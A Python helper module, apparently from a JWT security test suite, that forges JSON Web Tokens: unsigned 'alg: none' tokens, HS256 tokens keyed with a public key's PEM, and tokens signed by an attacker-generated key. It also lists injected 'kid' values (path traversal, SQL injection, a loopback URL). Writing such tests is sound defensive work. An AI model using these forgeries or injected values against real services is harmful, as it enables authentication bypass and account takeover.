"""Forged JSON Web Tokens for the attacks: unsigned, HMAC-keyed with a public key, or signed by a key
of the attacker's with whatever header the attack needs (``kid``, ``jku``, ``x5u``, ``jwk``)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import warnings
from collections.abc import Mapping

from joserfc import jws
from joserfc.errors import SecurityWarning
from joserfc.jwk import ECKey, Key, KeySet, OKPKey, RSAKey

ATTACKER_KID = "attacker-key-1"
INJECTED_KIDS = ("../../../../../../dev/null", "x' OR '1'='1", "http://127.0.0.1:9/jwks.json#k")


def segment(data: Mapping[str, object] | bytes) -> str:
    raw = data if isinstance(data, bytes) else json.dumps(data).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def header_of(token: str) -> dict[str, object]:
    encoded = token.split(".", maxsplit=1)[0]
    return json.loads(base64.urlsafe_b64decode(encoded + "=" * (-len(encoded) % 4)))  # type: ignore[no-any-return]


def unsigned(header: Mapping[str, object], claims: Mapping[str, object]) -> str:
    """``alg: none`` with an empty signature."""
    return f"{segment({**header, 'alg': 'none'})}.{segment(claims)}."


def hmac_keyed_with_public_key(published: Mapping[str, object], claims: Mapping[str, object]) -> str:
    """HS256 whose key is the PEM of a published public key: the classic algorithm confusion."""
    public = KeySet.import_key_set({"keys": [dict(published)]}).keys[0]
    pem = public.as_pem(private=False)  # type: ignore[attr-defined]
    header = {"alg": "HS256", "typ": "JWT", "kid": published["kid"]}
    signing_input = f"{segment(header)}.{segment(claims)}"
    mac = hmac.new(pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{segment(mac)}"


def attacker_key(algorithm: str, kid: str = ATTACKER_KID) -> Key:
    """A fresh key of the attacker's, of the kind ``algorithm`` signs with."""
    parameters = {"alg": algorithm, "kid": kid, "use": "sig"}
    if algorithm == "EdDSA":
        return OKPKey.generate_key("Ed25519", parameters=parameters)
    if algorithm == "ES256":
        return ECKey.generate_key("P-256", parameters=parameters)
    return RSAKey.generate_key(2048, parameters=parameters)


def signed_by(key: Key, header: Mapping[str, object], claims: Mapping[str, object]) -> str:
    """A JWS by ``key`` with exactly this header (``alg`` included)."""
    algorithm = str(header["alg"])
    with warnings.catch_warnings():
        # The name "EdDSA" that vendors.md requires, which joserfc warns about on every use (RFC 9864).
        warnings.filterwarnings("ignore", message="EdDSA is deprecated", category=SecurityWarning)
        return jws.serialize_compact(dict(header), json.dumps(claims).encode(), key, algorithms=[algorithm])


def public_jwk(key: Key) -> dict[str, object]:
    return key.as_dict(private=False)  # type: ignore[no-any-return]
